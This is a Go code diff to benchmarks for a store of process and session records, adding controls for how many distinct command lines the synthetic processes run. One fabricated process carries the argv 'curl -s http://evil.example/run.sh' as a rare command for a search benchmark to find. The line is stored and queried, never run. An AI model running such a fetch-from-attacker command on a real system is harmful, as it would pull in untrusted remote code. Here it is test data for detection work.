@@ -63,6 +63,16 @@ func benchSession(i int, t0 time.Time, span time.Duration, n int) join.Session {
 	return ss
 }
 
+// benchArgv numbers the log file process j of session i tails: one of 97
+// (each session its own), or with STORE_BENCH_ARGVS=0 one per process
+// (the commands table's worst case: as many lines as processes).
+func benchArgv(i, j int) int {
+	if os.Getenv("STORE_BENCH_ARGVS") == "0" {
+		return i*benchProcsPerSession + j
+	}
+	return i % 97
+}
+
 // buildBenchStore generates the store with big transactions, writing rows
 // in time order as an agent would.
 func buildBenchStore(b *testing.B) *benchData {
@@ -88,7 +98,10 @@ func buildBenchStore(b *testing.B) *benchData {
 				p.Start = ss.RequestReceivedTimestamp.Add(time.Duration(j) * 100 * time.Millisecond)
 				p.Namespace, p.Pod = ss.Namespace, ss.Pod
 				p.PID, p.PPID = uint32(100000+i*benchProcsPerSession+j), uint32(100000+i*benchProcsPerSession+j-1)
-				p.Argv = []string{"tail", "-n", "100", fmt.Sprintf("/var/log/app-%d.log", i%97)}
+				p.Argv = []string{"tail", "-n", "100", fmt.Sprintf("/var/log/app-%d.log", benchArgv(i, j))}
+				if i == sessions/2 && j == 0 {
+					p.Argv = []string{"curl", "-s", "http://evil.example/run.sh"} // the command BenchmarkQueryRareCommand finds
+				}
 				if j > 0 {
 					p.Attribution = vocab.AttributionInherited
 					p.ParentProcessID = batch.Processes[len(batch.Processes)-1].ProcessID
@@ -188,11 +201,14 @@ func BenchmarkQuery(b *testing.B) {
 	runBenchQueries(b, d, queries)
 }
 
-// BenchmarkQueryRareCommand is a command substring no process ran, on the
-// same store: no index holds substrings, so the whole table is read (a
-// common one, BenchmarkQuery's SessionsByCommand, stops at the page).
-// Kept apart, with its own -benchtime, because one query takes up to a
-// second: `go test -run '^$' -bench BenchmarkQueryRareCommand -benchtime 5x`.
+// BenchmarkQueryRareCommand is a command substring no process ran, and one
+// a single process ran, on the same store: processes read the distinct
+// command lines, then the part of processes_start where the matching ones
+// ran; sessions, whose commands are their own column, read every session
+// (a common substring, BenchmarkQuery's SessionsByCommand, stops at the
+// page). Kept apart, with its own -benchtime, because one query could take
+// up to a second: `go test -run '^$' -bench BenchmarkQueryRareCommand
+// -benchtime 5x` (STORE_BENCH_ARGVS=0: every process its own line).
 func BenchmarkQueryRareCommand(b *testing.B) {
 	d := buildBenchStore(b)
 	s, ctx := d.store, context.Background()
@@ -203,6 +219,13 @@ func BenchmarkQueryRareCommand(b *testing.B) {
 		}},
 		{"Processes", func(*rand.Rand) (int, error) {
 			page, _, err := s.ListProcesses(ctx, store.ProcessFilter{Command: "evil.sh", Limit: 50})
+			return len(page), err
+		}},
+		{"ProcessesRanOnce", func(*rand.Rand) (int, error) {
+			page, _, err := s.ListProcesses(ctx, store.ProcessFilter{Command: "evil.example", Limit: 50})
+			if err == nil && len(page) != 1 {
+				err = fmt.Errorf("found %d processes running evil.example, want 1", len(page))
+			}
 			return len(page), err
 		}},
 	})
@@ -306,9 +329,24 @@ func BenchmarkProcessWrite(b *testing.B) {
 	s, ss, t0 := openSessionBench(b)
 	ctx := context.Background()
 	var err error
+	// STORE_BENCH_ARGVS: how many distinct argvs the processes run (1,
+	// /bin/true; 0: each its own, the commands table's worst case).
+	argvs := 1
+	if v := os.Getenv("STORE_BENCH_ARGVS"); v != "" {
+		if argvs, err = strconv.Atoi(v); err != nil || argvs < 0 {
+			b.Fatalf("STORE_BENCH_ARGVS=%q: need a number >= 0", v)
+		}
+	}
 	mk := func(i int) join.Process {
 		p := benchSessionProcess(ss, t0, i)
 		p.Exit, p.ExitCode = p.Start.Add(time.Millisecond), ptr(0)
+		if argvs != 1 {
+			n := i
+			if argvs > 0 {
+				n = i % argvs
+			}
+			p.Filename, p.Argv = "/bin/cat", []string{"cat", "/var/log/app-" + strconv.Itoa(n) + ".log"}
+		}
 		return p
 	}
 	prefill := 100_000
